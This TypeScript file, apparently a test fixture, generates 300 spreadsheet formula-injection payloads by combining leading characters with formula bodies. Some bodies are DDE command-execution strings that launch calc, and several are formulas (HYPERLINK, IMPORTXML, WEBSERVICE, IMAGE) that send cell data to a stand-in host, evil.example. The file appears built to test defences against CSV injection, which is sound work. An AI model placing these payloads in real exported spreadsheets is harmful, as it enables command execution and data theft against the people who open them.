/**
 * 300 texts that a spreadsheet would run if it took them for formulas (V12): each way to begin
 * before each body.
 */

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\r\n+',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  ' =',
];

const bodies = [
  '1+1',
  'SUM(A1:A9)',
  'A1',
  '-2+3',
  '1e9',
  'cmd|/C calc!A0',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  'IMPORTXML("http://evil.example/","//a")',
  'IMPORTRANGE("key","daily!A1:Z9")',
  'WEBSERVICE("http://evil.example/")',
  'IMAGE("http://evil.example/x.png")',
  'DDE("cmd";"/C calc";"x")',
  'INDIRECT("R1C1",FALSE)',
  '_x000D_1+1',
  'CONCATENATE("a","b")&"c"',
  '1,2;3',
  '{1;2}',
  'NOW()\r\n=TODAY()',
  '<b>&amp;</b>',
];

export const formulaPayloads: string[] = beginnings.flatMap((beginning) =>
  bodies.map((body) => `${beginning}${body}`),
);
